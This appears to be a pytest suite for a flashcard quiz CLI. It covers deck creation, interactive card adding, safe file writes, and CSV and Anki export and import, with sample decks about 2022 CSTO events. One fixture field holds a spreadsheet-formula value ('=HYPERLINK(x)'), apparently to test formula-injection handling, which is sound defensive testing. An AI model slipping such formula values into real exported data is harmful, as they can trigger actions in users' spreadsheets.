"""Authoring: quiz new, quiz add, validate --watch, export and import."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import sqlite3
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pexpect
import pytest
from typer.testing import CliRunner

from quiz.authoring.deckfile import deck_rows
from quiz.cli import app
from quiz.deck.catalog import find
from quiz.deck.loader import load_deck
from quiz.models import CardType

from .conftest import ROOT

ENTER, UP, DOWN, SPACE = "\r", "\x1b[A", "\x1b[B", " "
Keys = Callable[..., None]
BUNDLED = sorted((ROOT / "decks").glob("*.yaml"))


def run(*args: str) -> object:
    return CliRunner().invoke(app, list(args))


def test_new_writes_a_deck_with_every_type_that_validates(quiz_home: Path) -> None:
    r = run("new", "Capitals: of Asia")
    path = quiz_home / "decks" / "capitals-of-asia.yaml"
    assert r.exit_code == 0 and r.stdout == (  # type: ignore[attr-defined]
        f"Wrote {path}\nEdit it, then:\n"
        "  quiz validate capitals-of-asia  check it\n"
        "  quiz add capitals-of-asia       add a card\n"
        "  quiz start capitals-of-asia     study it\n")
    text = path.read_text()
    assert text.startswith("# yaml-language-server: $schema=file://")
    assert Path(text.split("$schema=file://")[1].split("\n")[0]).is_file()
    assert "# A quiz deck. 'quiz validate capitals-of-asia' checks it" in text
    # lines as long as the name or the year carry no comment after them, which
    # would start in a different column on each
    assert [line for line in text.splitlines()
            if line.startswith(("id:", "year:", "  my-source:"))] == [
        "id: capitals-of-asia", f"year: {dt.date.today().year}", "  my-source:"]
    deck = load_deck(path)
    assert deck.id == "capitals-of-asia" and deck.title == "Capitals: Of Asia"
    assert {c.type for c in deck.cards} == set(CardType)
    assert deck.sources and all(c.source in (None, "my-source") for c in deck.cards)
    assert run("validate", str(path)).exit_code == 0  # type: ignore[attr-defined]
    again = run("new", "Capitals: of Asia")
    assert again.exit_code == 1 and "already exists" in again.stderr  # type: ignore[attr-defined]


def test_new_at_a_path(tmp_path: Path) -> None:
    r = run("new", str(tmp_path / "my sub" / "mine.yaml"), "--title", "Mine")
    assert r.exit_code == 0  # type: ignore[attr-defined]
    assert load_deck(tmp_path / "my sub" / "mine.yaml").title == "Mine"
    assert "'quiz validate mine.yaml' checks it" in (tmp_path / "my sub" / "mine.yaml").read_text()
    # outside the deck folder, the commands name the file, quoted for the shell
    assert f"  quiz add '{tmp_path / 'my sub' / 'mine.yaml'}'" in r.stdout  # type: ignore


@pytest.mark.parametrize("name", ["", "   ", "!!!", "история"])
def test_new_refuses_a_name_with_nothing_to_make_an_id_from(quiz_home: Path, name: str) -> None:
    r = run("new", name)
    assert r.exit_code == 1  # type: ignore[attr-defined]
    assert "has no letters or digits (a-z, 0-9)" in r.stderr  # type: ignore[attr-defined]
    assert not (quiz_home / "decks").exists() or not any((quiz_home / "decks").iterdir())


def test_new_with_a_name_in_another_script_and_digits(quiz_home: Path) -> None:
    r = run("new", "история 2022")
    assert r.exit_code == 0  # type: ignore[attr-defined]
    deck = load_deck(quiz_home / "decks" / "2022.yaml")
    assert (deck.id, deck.title) == ("2022", "История 2022")


LAYOUTS = {
    "windows line ends": "id: w\r\ntitle: W\r\ncards:\r\n  - id: a\r\n    question: Q?\r\n"
                         "    answer: x\r\n",
    "four-space indent": "id: w\ntitle: W\nsources:\n    s1:\n        outlet: TASS\n"
                         "        date: 2022-01-10\n        title: T\ncards:\n    -   id: a\n"
                         "        question: Q?\n        answer: x\n        source: s1\n",
    "dash at the margin": "id: w\ntitle: W\ncards:\n- id: a\n  question: Q?\n  answer: x\n",
    "byte order mark": "\ufeffid: w\ntitle: W\ncards:\n  - id: a\n    question: Q?\n"
                       "    answer: x\n",
}


@pytest.mark.parametrize("layout", LAYOUTS)
def test_add_keeps_the_authors_layout(tmp_path: Path, layout: str) -> None:
    """ruamel re-indents a whole file to the indentation it is given, and
    reads CRLF and a BOM away: quiz gives it the file's own."""
    from quiz.authoring.edit import with_card

    text = LAYOUTS[layout]
    path = tmp_path / "w.yaml"
    path.write_bytes(with_card(text, path, {"id": "b", "question": "New?", "type": "text",
                                            "answer": "y", "tags": ["t1"]}).encode())
    raw = path.read_bytes()
    assert raw.startswith(text.encode())  # everything before the new card, byte for byte
    if "\r\n" in text:
        assert b"\n" not in raw.replace(b"\r\n", b"")  # no bare line feeds
    assert [(c.id, c.tags) for c in load_deck(path, cache=False).cards] == [
        ("a", ()), ("b", ("t1",))]


@pytest.fixture
def deck_copy(tmp_path: Path) -> Path:
    path = tmp_path / "figures.yaml"
    path.write_text((ROOT / "decks" / "csto-figures.yaml").read_text())
    return path


def test_add_appends_a_card_and_keeps_the_file_as_it_was(keys: Keys, deck_copy: Path) -> None:
    before = deck_copy.read_text()
    # type: text (first); question; answer; not reversed; accept; tags; source: three up from the
    # last card's (the one offered first), the second key; explanation; id: the suggested one
    keys(ENTER, "Who chaired the meeting?", ENTER, "Tokayev", ENTER, ENTER,  # not reversed
         "Kassym-Jomart Tokayev", ENTER, "quotes, people", ENTER, UP, UP, UP, ENTER,
         "He chaired it.", ENTER, ENTER)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 0, r.output
    after = deck_copy.read_text()
    assert after.startswith(before.rstrip("\n"))  # comments, order and layout untouched
    added = after[len(before.rstrip("\n")):]
    assert added == (
        "\n\n  - id: who-chaired-the-meeting\n"
        "    question: Who chaired the meeting?\n"
        "    type: text\n"
        "    answer: Tokayev\n"
        "    accept: [Kassym-Jomart Tokayev]\n"
        "    source: tass-jan10-karin\n"
        "    tags: [quotes, people]\n"
        "    explain: He chaired it.\n")
    card = load_deck(deck_copy, cache=False).card("who-chaired-the-meeting")
    assert card is not None and card.accept == ("Kassym-Jomart Tokayev",)
    assert "Added 'who-chaired-the-meeting'" in r.stdout


@pytest.mark.parametrize("stop", ["\x03", "\x04"], ids=["ctrl-c", "ctrl-d"])
def test_stopping_add_halfway_says_nothing_was_added(
        keys: Keys, deck_copy: Path, stop: str) -> None:
    before = deck_copy.read_text()
    keys(ENTER, "Who chaired the meeting?", ENTER, "Tokayev", ENTER, ENTER, stop)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 130, r.output
    assert f"Stopped: no card was added; {deck_copy} is as it was." in r.stderr
    assert deck_copy.read_text() == before


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permission bits")
def test_rewritten_and_new_files_keep_the_usual_permissions(tmp_path: Path) -> None:
    """The atomic write goes through a private temporary file (0600); the
    result keeps the old file's mode, or 0666 less the umask when new."""
    import os
    import stat

    from quiz.fileio import replace_file

    shared = tmp_path / "deck.yaml"
    shared.write_text("old")
    shared.chmod(0o640)
    replace_file(shared, "new")
    assert (shared.read_text(), stat.S_IMODE(shared.stat().st_mode)) == ("new", 0o640)
    old_mask = os.umask(0o027)
    try:
        replace_file(tmp_path / "sub" / "report.html", "<p>")
        replace_file(tmp_path / "other.html", b"<p>")
    finally:
        os.umask(old_mask)
    assert stat.S_IMODE((tmp_path / "sub" / "report.html").stat().st_mode) == 0o640
    assert stat.S_IMODE((tmp_path / "other.html").stat().st_mode) == 0o640
    assert [p.name for p in tmp_path.rglob(".*.tmp")] == []


def test_add_a_multi_card_and_a_date_card(keys: Keys, deck_copy: Path) -> None:
    # multi is the third type; choices; the checkbox: first and third; no tags;
    # the last card's source; no explanation; id typed over the suggestion
    keys(DOWN, DOWN, ENTER, "Which are members?", ENTER, "Armenia, Georgia, Russia", ENTER,
         SPACE, DOWN, DOWN, SPACE, ENTER, ENTER, ENTER, ENTER, "\x15members-2", ENTER)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 0, r.output
    card = load_deck(deck_copy, cache=False).card("members-2")
    assert card is not None and card.type is CardType.MULTI
    assert card.source == "tass-jan19-borodavkin"  # the last card's, offered first
    assert card.answer == ("Armenia", "Russia") and card.choices == ("Armenia", "Georgia",
                                                                      "Russia")


def test_add_a_choice_of_figures_keeps_each_figure_whole(keys: Keys, deck_copy: Path) -> None:
    # choice is the second type; the commas inside 4,500 and 2,000 separate nothing
    keys(DOWN, ENTER, "How many?", ENTER, "4,500, 2,000, 225", ENTER, DOWN, ENTER,
         ENTER, ENTER, ENTER, ENTER, "\x15figures-2", ENTER)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 0, r.output
    card = load_deck(deck_copy, cache=False).card("figures-2")
    assert card is not None and card.type is CardType.CHOICE
    assert card.choices == ("4,500", "2,000", "225") and card.answer == "2,000"


def test_add_a_number_card_keeps_its_qualifier(keys: Keys, deck_copy: Path) -> None:
    keys(DOWN, DOWN, DOWN, ENTER, "How many?", ENTER, "about 2,000", ENTER,
         ENTER, ENTER, ENTER, "\x15figures-3", ENTER)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 0, r.output
    card = load_deck(deck_copy, cache=False).card("figures-3")
    assert card is not None and card.type is CardType.NUMBER
    assert (card.answer, card.qualifier) == (2000, "about")


def test_add_a_number_card_asks_which_figure_a_dot_means(keys: Keys, deck_copy: Path) -> None:
    # '4.500' is 4.5 or 4,500: asked again; then 4.500,5 (one reading) is taken
    keys(DOWN, DOWN, DOWN, ENTER, "How many?", ENTER, "4.500", ENTER, "\x15", "4.500,5", ENTER,
         ENTER, ENTER, ENTER, "\x15figures-4", ENTER)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 0, r.output
    card = load_deck(deck_copy, cache=False).card("figures-4")
    assert card is not None and card.answer == 4500.5
    from quiz.cli.questions import figure_ok

    assert figure_ok("4.500") == "4.500 could be 4.5 or 4,500: type the one you mean"


def test_add_a_date_card_uses_the_decks_year(keys: Keys, tmp_path: Path) -> None:
    path = tmp_path / "d.yaml"
    path.write_text("id: d\ntitle: D\nyear: 2022\ncards:\n  - {id: a, question: Q?, answer: x}\n")
    # date is the fifth type; "not a date" is refused inline, then 7 Jan
    keys(DOWN * 4, ENTER, "When?", ENTER, "not a date", ENTER, "\x15", "7 Jan", ENTER,
         ENTER, ENTER, ENTER)
    r = CliRunner().invoke(app, ["add", str(path)])
    assert r.exit_code == 0, r.output
    assert path.read_text().endswith("  - id: when\n    question: When?\n    type: date\n"
                                     "    answer: 2022-01-07\n")


def test_add_refuses_a_bundled_deck_and_a_broken_one(tmp_path: Path) -> None:
    r = run("add", "csto-dates")
    assert r.exit_code == 1 and "bundled deck" in r.stderr  # type: ignore[attr-defined]
    broken = tmp_path / "b.yaml"
    broken.write_text("id: b\ntitle: B\ncards:\n  - {id: a, question: Q?}\n")
    r = run("add", str(broken))
    assert r.exit_code == 1 and "b.yaml:4:5" in r.stdout + r.stderr  # type: ignore[attr-defined]


def test_a_card_that_would_break_the_deck_is_not_added(
        keys: Keys, deck_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import quiz.authoring.edit

    real = quiz.authoring.edit.card_map
    monkeypatch.setattr(quiz.authoring.edit, "card_map",
                        lambda fields: {**real(fields), "type": "number"})  # a wrong type
    before = deck_copy.read_text()
    keys(ENTER, "Q?", ENTER, "not a number", ENTER, ENTER, ENTER, ENTER, ENTER, ENTER, ENTER)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 1
    assert "The card was not added: it would break the deck" in r.stderr
    assert "figures.yaml:" in r.stderr
    assert pasted(r.stdout)["question"] == "Q?"
    assert deck_copy.read_text() == before


TYPED = (ENTER, "Who chaired the meeting?", ENTER, "Tokayev", ENTER, ENTER, ENTER, ENTER, ENTER,
         ENTER, ENTER)


def pasted(stdout: str) -> dict[str, Any]:
    """The card `quiz add` printed to paste, as the deck's loader would read it."""
    import yaml

    assert stdout.startswith("  - id: ")  # indented as under the bundled decks' 'cards:'
    [card] = yaml.safe_load(stdout)
    return card  # type: ignore[no-any-return]


def typed(card: dict[str, Any]) -> bool:
    return (card["question"], card["answer"]) == ("Who chaired the meeting?", "Tokayev")


def _during_prompts(monkeypatch: pytest.MonkeyPatch, act: Callable[[], object]) -> None:
    """Run `act` (an editor saving the file, a rename) while the card is typed."""
    from quiz.cli import card_form

    real = card_form.ask_card

    def ask(*args: Any, **kwargs: Any) -> Any:
        fields = real(*args, **kwargs)
        act()
        return fields

    monkeypatch.setattr(card_form, "ask_card", ask)


def test_add_never_writes_over_an_editors_save(
        keys: Keys, deck_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The editor saved a card with the id quiz suggests: the deck with the
    new card would have a duplicate id. The editor's save stays, and the
    typed card is printed to paste (it used to write the old copy back)."""
    saved = (deck_copy.read_text()
             + "  - {id: who-chaired-the-meeting, question: Mine?, answer: 3}\n")
    _during_prompts(monkeypatch, lambda: deck_copy.write_text(saved))
    keys(*TYPED)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 1, r.output
    assert deck_copy.read_text() == saved
    assert "duplicate" in r.stderr and "The card was not added" in r.stderr
    assert typed(pasted(r.stdout))


def test_add_appends_to_the_version_an_editor_saved(
        keys: Keys, deck_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    saved = deck_copy.read_text().replace("# ", "# edited: ", 1)
    _during_prompts(monkeypatch, lambda: deck_copy.write_text(saved))
    keys(*TYPED)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 0, r.output
    assert deck_copy.read_text().startswith(saved)
    assert load_deck(deck_copy, cache=False).card("who-chaired-the-meeting")


def test_add_to_a_deck_renamed_or_broken_meanwhile_keeps_the_card(
        keys: Keys, deck_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    moved = deck_copy.with_name("moved.yaml")
    _during_prompts(monkeypatch, lambda: deck_copy.rename(moved))
    keys(*TYPED)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 1, r.output
    assert "no such file (was it moved, renamed or replaced?)" in r.stderr
    assert typed(pasted(r.stdout))
    assert not deck_copy.exists()


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX FIFOs")
def test_add_to_a_deck_swapped_for_a_fifo_meanwhile_neither_hangs_nor_loses_the_card(
        keys: Keys, deck_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    def swap() -> None:
        deck_copy.unlink()
        os.mkfifo(deck_copy)

    _during_prompts(monkeypatch, swap)
    keys(*TYPED)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])  # read without waiting on the FIFO
    assert r.exit_code == 1, r.output
    assert "figures.yaml: is a pipe" in r.stderr and typed(pasted(r.stdout))


def test_ctrl_c_while_the_card_is_saved_keeps_the_card(
        keys: Keys, deck_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import quiz.fileio

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    before = deck_copy.read_text()
    monkeypatch.setattr(quiz.fileio, "replace_file", interrupted)
    keys(*TYPED)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 130, r.output
    assert typed(pasted(r.stdout)) and "Stopped: the card was not added" in r.stderr
    assert deck_copy.read_text() == before


def test_add_to_a_deck_broken_meanwhile_keeps_both(
        keys: Keys, deck_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    broken = deck_copy.read_text() + "  - {id: x, question: [unclosed\n"
    _during_prompts(monkeypatch, lambda: deck_copy.write_text(broken))
    keys(*TYPED)
    r = CliRunner().invoke(app, ["add", str(deck_copy)])
    assert r.exit_code == 1, r.output
    assert "figures.yaml:" in r.stderr and "has problems since the card was begun" in r.stderr
    assert typed(pasted(r.stdout)) and deck_copy.read_text() == broken


def test_a_write_that_finds_the_file_changed_writes_nothing(tmp_path: Path) -> None:
    from quiz.fileio import FileChanged, replace_file

    path = tmp_path / "d.yaml"
    path.write_text("theirs")
    with pytest.raises(FileChanged, match="changed on disk"):
        replace_file(path, "mine", expect=b"what quiz read")
    assert path.read_text() == "theirs" and [p.name for p in tmp_path.iterdir()] == ["d.yaml"]
    replace_file(path, "mine", expect=b"theirs")
    assert path.read_text() == "mine"


EVERY_FIELD_DECK = """\
id: every-field
title: "Every field, with a comma: and a colon"
description: |
  Two lines
  of description.
year: 2022
escalate: true
sources:
  s1:
    outlet: TASS
    date: 2022-01-19
    title: A report, with a comma
    url: https://example.org/a?b=1&c=2
  unused:
    outlet: Nobody
    date: 2022-01
    title: Cited by no card
cards:
  - id: pick
    question: Which city?
    answer: Almaty
    choices: [Almaty, Astana, "=HYPERLINK(x)"]
    source: s1
  - id: kept-choices
    question: Which town?
    answer: Aktau
    choices: [Aktau, Shymkent]
    escalate: false
  - id: flip
    type: basic
    question: "What is a mission?\nSay it in full."
    answer: "Troops sent with consent.\nNot to fight a war."
    reverse: true
    context: It began on 6 January, said the report.
    draft: true
  - id: blanks
    question: "{{c1::Russia}} led it from {{c2::6 January::a date}}."
    group: mission
"""


def card_fields(card: object) -> dict[str, object]:
    """Every field of a card but the line of the file it was read at."""
    import dataclasses

    return {f.name: getattr(card, f.name) for f in dataclasses.fields(card)  # type: ignore
            if f.name != "line"}


@pytest.mark.parametrize("name", [*(p.name for p in BUNDLED), "every-field.yaml"])
@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_export_then_import_keeps_every_card_and_deck_field(name: str, fmt: str,
                                                             tmp_path: Path) -> None:
    """quiz -> CSV -> quiz: the deck's id, title, description, year and
    sources (with their urls, also those no card cites) and every field of
    every card come back equal, with no --id or --title."""
    path = ROOT / "decks" / name
    if name == "every-field.yaml":
        path = tmp_path / name
        path.write_text(EVERY_FIELD_DECK)
    original = load_deck(path)
    table = tmp_path / f"cards.{fmt}"
    assert run("export", str(path), "-f", fmt, "-o", str(table)).exit_code == 0  # type: ignore
    out = tmp_path / "back.yaml"
    r = run("import", str(table), "-o", str(out))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    back = load_deck(out)
    assert (back.id, back.title, back.description, back.year) == (
        original.id, original.title, original.description, original.year)
    assert back.sources == original.sources
    assert [card_fields(c) for c in back.cards] == [card_fields(c) for c in original.cards]
    assert deck_rows(back) == deck_rows(original)


def test_export_writes_the_deck_fields_first_as_rows_a_spreadsheet_opens(
        tmp_path: Path) -> None:
    path = tmp_path / "every-field.yaml"
    path.write_text(EVERY_FIELD_DECK)
    r = run("export", str(path))
    assert r.exit_code == 0  # type: ignore[attr-defined]
    rows = list(csv.reader(r.stdout.splitlines(keepends=True)))  # type: ignore[attr-defined]
    assert rows[:6] == [
        ["#deck", "every-field"], ["#title", "Every field, with a comma: and a colon"],
        ["#description", "Two lines\nof description."], ["#year", "2022"],
        ["#source", "s1", "TASS", "2022-01-19", "A report, with a comma",
         "https://example.org/a?b=1&c=2"],
        ["#source", "unused", "Nobody", "2022-01", "Cited by no card", ""]]
    assert rows[6][:4] == ["id", "type", "question", "answer"]
    assert rows[6][-2:] == ["context", "draft"]


def test_import_anki_plain_text_export(tmp_path: Path) -> None:
    notes = tmp_path / "anki.txt"
    notes.write_text("#separator:tab\n#html:true\n#tags column:3\n"
                     "Capital of <b>Kazakhstan</b>?\tAstana<br>(Nur-Sultan in 2022)\tgeo places\n"
                     "Two &amp; two?\t4\t\n")
    out = tmp_path / "anki.yaml"
    r = run("import", str(notes), "-o", str(out))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    deck = load_deck(out)
    # a line break is one in the deck too: an answer of two lines is a flip card
    assert [(c.id, c.type.value, c.question, c.answer, c.tags) for c in deck.cards] == [
        ("capital-of-kazakhstan", "basic", "Capital of Kazakhstan?",
         "Astana\n(Nur-Sultan in 2022)", ("geo", "places")),
        ("two-two", "text", "Two & two?", "4", ())]


@pytest.mark.parametrize(("header", "tags"), [
    # Anki 2.1.55 and later, tags left out: its '#' lines name no tags column
    ("#separator:tab\n#html:false\n", ()),
    # older Anki: no '#' lines, and a two-field note's tags after its fields
    ("", ("src",)),
])
def test_import_anki_export_reads_tags_only_where_anki_put_them(
        tmp_path: Path, header: str, tags: tuple[str, ...]) -> None:
    """A note type's third field (Extra, Source) is not a list of tags."""
    notes = tmp_path / "anki.txt"
    third = "src" if not header else "TASS, 2022-01-19: a report"
    fourth = "" if not header else "\tcsto-quotes/karin"
    notes.write_text(f"{header}Who said it?\tErlan Karin\t{third}{fourth}\n")
    out = tmp_path / "anki.yaml"
    r = run("import", str(notes), "-o", str(out))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    [card] = load_deck(out).cards
    assert (card.question, card.answer, card.tags) == ("Who said it?", "Erlan Karin", tags)


def test_import_anki_cloze_notes_as_anki_makes_their_cards(tmp_path: Path) -> None:
    """One card per deletion number, that deletion blanked (with its hint) and
    the others shown; Back Extra becomes the explanation. A number used twice
    blanks two places: a text card. A cloze note needs no back."""
    notes = tmp_path / "anki.txt"
    notes.write_text("#separator:tab\n#html:false\n#notetype column:1\n#tags column:4\n"
                     "Cloze\tThe CSTO sent {{c1::2,030}} troops in {{c2::January::month}}"
                     "\tTASS\tcsto\n"
                     "Cloze\t{{c1::Armenia}}, {{c1::Belarus}} and Russia{{c2::}} sent troops"
                     "\t\t\n")
    out = tmp_path / "anki.yaml"
    r = run("import", str(notes), "-o", str(out))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    assert [(c.type.value, c.question, c.answer, c.explain, c.tags)
            for c in load_deck(out).cards] == [
        ("cloze", "The CSTO sent ___ troops in January", "2,030", "TASS", ("csto",)),
        ("cloze", "The CSTO sent 2,030 troops in ___ (month)", "January", "TASS", ("csto",)),
        ("text", "___, ___ and Russia sent troops", "Armenia, Belarus", None, ())]
    _, said = failed_import(tmp_path, "empty.txt", "#separator:tab\n{{c1::}} hides nothing\n")
    assert said.endswith("empty.txt:2: a cloze note with nothing to fill in\n")


def test_new_decks_never_take_the_id_of_a_deck_quiz_already_reads(
        tmp_path: Path, quiz_home: Path) -> None:
    """Two decks with one id in the deck folders make the second one broken."""
    table = tmp_path / "csto-dates.csv"
    table.write_text("front,back\nQ?,A\n")
    r = run("import", str(table))  # derived from the file name: a free variant instead
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    assert "The id 'csto-dates' is taken by " in r.stderr  # type: ignore[attr-defined]
    assert load_deck(quiz_home / "decks" / "csto-dates-2.yaml").id == "csto-dates-2"
    r = run("import", str(table), "--id", "csto-figures")  # given by the user: refused
    assert r.exit_code == 1  # type: ignore[attr-defined]
    assert "deck id 'csto-figures' is already used by " in r.stderr  # type: ignore
    r = run("new", "csto-quotes")
    assert r.exit_code == 1 and "choose another name" in r.stderr  # type: ignore
    assert run("validate").exit_code == 0  # type: ignore[attr-defined]
    # a file outside the deck folders is the user's business
    assert run("new", str(tmp_path / "elsewhere" / "csto-quotes.yaml")).exit_code == 0  # type: ignore


@pytest.mark.parametrize("header", ["front,back", "Term,Definition", "front,back,tags"])
def test_import_a_hand_made_csv_with_a_header_row(tmp_path: Path, header: str) -> None:
    table = tmp_path / "words.csv"
    table.write_text(f"{header}\nCapital of Kazakhstan?,Astana\nTwo and two?,4\n")
    out = tmp_path / "words.yaml"
    r = run("import", str(table), "-o", str(out))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    assert [(c.question, c.answer) for c in load_deck(out).cards] == [
        ("Capital of Kazakhstan?", "Astana"), ("Two and two?", "4")]
    only = tmp_path / "only.csv"
    only.write_text(f"{header}\n")
    r = run("import", str(only), "-o", str(tmp_path / "only.yaml"))
    assert r.exit_code == 1  # type: ignore[attr-defined]
    assert r.stderr == f"quiz: {only}: no cards in this file, only a header row\n"  # type: ignore


@pytest.mark.parametrize("sep", [";", "\t", ","])
def test_import_finds_the_separator_a_spreadsheet_used(tmp_path: Path, sep: str) -> None:
    """Semicolons are what spreadsheets write where a comma is the decimal
    point; commas inside the text must not make them look like commas."""
    rows = [("front", "back"),
            ("Who said, on 19 January, that the mission was over?", "Tokayev"),
            (f"A quoted{sep} field", "2,500")]
    table = tmp_path / "words.csv"
    with table.open("w", newline="") as f:  # as a spreadsheet writes it: quoted where needed
        csv.writer(f, delimiter=sep).writerows(rows)
    out = tmp_path / "words.yaml"
    r = run("import", str(table), "-o", str(out))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    assert [(c.question, c.answer) for c in load_deck(out).cards] == [
        ("Who said, on 19 January, that the mission was over?", "Tokayev"),
        (f"A quoted{sep} field", "2,500")]


def test_import_reads_a_pipe_as_from_process_substitution(quiz_home: Path,
                                                          tmp_path: Path) -> None:
    """`quiz import <(curl ...)` hands quiz a pipe such as /dev/fd/63: it is
    read like a file, and the deck is named 'imported', not '63'."""
    import os
    import threading

    pipe = tmp_path / "63"
    os.mkfifo(pipe)

    def feed() -> None:
        with pipe.open("w") as f:
            f.write("front,back\nCapital of Kazakhstan?,Astana\n")

    writer = threading.Thread(target=feed, daemon=True)  # never blocks the run
    writer.start()
    r = run("import", str(pipe))
    writer.join(timeout=10)
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    assert r.stdout == (f"Wrote {quiz_home / 'decks' / 'imported.yaml'} (1 card). "  # type: ignore
                        "Look it over, then study it: quiz start imported\n")
    deck = load_deck(quiz_home / "decks" / "imported.yaml")
    assert (deck.id, deck.description) == ("imported", "Imported from a pipe.")
    assert [(c.question, c.answer) for c in deck.cards] == [("Capital of Kazakhstan?", "Astana")]
    r = run("import", str(tmp_path / "missing.csv"))
    assert r.exit_code == 1  # type: ignore[attr-defined]
    assert r.stderr == f"quiz: {tmp_path / 'missing.csv'}: no such file\n"  # type: ignore


def failed_import(tmp_path: Path, name: str, text: str) -> tuple[Path, str]:
    """Import a table that must be refused: its path and what quiz said."""
    table = tmp_path / name
    table.write_text(text)
    out = tmp_path / f"{table.stem}.yaml"
    r = run("import", str(table), "-o", str(out))
    assert r.exit_code == 1 and not out.exists()  # type: ignore[attr-defined]
    return table, r.stderr  # type: ignore[attr-defined]


def test_import_names_the_separator_it_expected(tmp_path: Path) -> None:
    """A row that makes no card is told at its line and left out; the file
    is refused only when no row makes one (told at the first)."""
    table = tmp_path / "words.csv"
    table.write_text("Capital of Kazakhstan?;Astana\nTwo and two?;4\nA row with no back\n")
    out = tmp_path / "words.yaml"
    r = run("import", str(table), "-o", str(out))
    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
    assert r.stderr == (f"{table}:3: expected a front and a back, separated by "  # type: ignore
                        "semicolons (left out)\n")
    assert r.stdout == (f"Wrote {out} (2 cards; 1 row left out, told above). Look it "  # type: ignore
                        f"over, then study it: quiz start {out}\n")
    assert [c.question for c in load_deck(out).cards] == ["Capital of Kazakhstan?",
                                                            "Two and two?"]
    table, said = failed_import(tmp_path, "single.csv", "just one column\nand another row\n")
    assert said == f"{table}:1: expected a front and a back, separated by commas\n"


def test_import_anki_export_with_note_type_deck_and_guid_columns(tmp_path: Path) -> None:
    notes = tmp_path / "anki.txt"
    notes.write_text("#separator:tab\n#html:false\n#guid column:1\n#notetype column:2\n"
                     "#deck column:3\n#tags column:6\n"
                     "aB3x\tBasic\tGeography\tCapital of Kazakhstan?\tAstana\tgeo\n"
                     "cD4y\tBasic\tGeography\t\t\t\n")
    r = run("import", str(notes), "-o", str(tmp_path / "a.yaml"))
    assert r.exit_code == 0  # type: ignore[attr-defined]
    # the file's line 8, after six '#' lines: line numbers count them
    assert r.stderr == (f"{notes}:8: expected a front and a back, separated by "  # type: ignore[attr-defined]
                        "tabs (left out)\n")
    [card] = load_deck(tmp_path / "a.yaml").cards
    assert (card.question, card.answer, card.tags) == ("Capital of Kazakhstan?", "Astana",
                                                       ("geo",))


def test_import_errors_are_one_line_with_the_row(tmp_path: Path) -> None:
    table, said = failed_import(tmp_path, "bad.csv", "id,question,answer\nc1,Q?,\n")
    assert said == f"{table}:2: a card needs a question and an answer\n"
    # a field past the csv module's own limit
    table, said = failed_import(tmp_path, "huge.csv", "front,back\nQ?,a\nQ2?," + "x" * 200_000)
    assert said == f"{table}:3: cannot read this row (field larger than field limit (131072))\n"
    # what the deck refuses is told at the table's rows, not at the unwritten YAML's lines
    table, said = failed_import(tmp_path, "dup.csv", "id,question,answer\nc1,Q?,a\n\n"
                                "c1,Q2?,b\nc2,Q3 has no blank,x\n")
    assert said.splitlines()[0] == (f"{table}:4: duplicate card id 'c1' (first used at line "
                                    "2); ids must be unique in a deck")
    table, said = failed_import(tmp_path, "types.csv", "id,question,answer,type\nc1,Q?,a,text\n"
                                "c2,Q2 has no blank,x,cloze\nc3,How many?,lots,number\n")
    assert said.splitlines()[:2] == [
        f"{table}:3: a cloze question has exactly one blank written ___ (found 0)",
        f"{table}:4: the answer of a number card must be a number, like 4500 or 2.5"]


def test_a_table_not_in_utf8_is_refused_at_its_first_odd_byte(tmp_path: Path) -> None:
    """A spreadsheet's plain CSV is in its code page (cp1252 here): say where,
    and how to save it as UTF-8, on one line without 'quiz:' before the place."""
    table = tmp_path / "excel.csv"
    table.write_bytes("question,answer\r\nCapital?,Paris\r\nCafé?,café\r\n".encode("cp1252"))
    r = run("import", str(table), "-o", str(tmp_path / "excel.yaml"))
    assert (r.exit_code, r.stderr) == (1, f"{table}:3:4: not valid UTF-8 (byte 0xE9); "  # type: ignore
                                          "save it as UTF-8 (in a spreadsheet: 'CSV UTF-8')\n")
    article = tmp_path / "news.txt"
    article.write_bytes("Talks open in the capital\nThe café opened.\n".encode("cp1252"))
    r = run("generate", str(article), "--date", "2022-01-01")
    assert (r.exit_code, r.stderr) == (1, f"{article}:2:8: not valid UTF-8 (byte 0xE9); "  # type: ignore
                                          "save the file as UTF-8\n")


def _quiz_key(flds: str) -> str:
    """DECK/CARD of an exported note, from its Quiz field (the last)."""
    import html

    data = json.loads(html.unescape(flds.split("\x1f")[-1]))
    return f"{data['deck']['id']}/{data['card']['id']}"


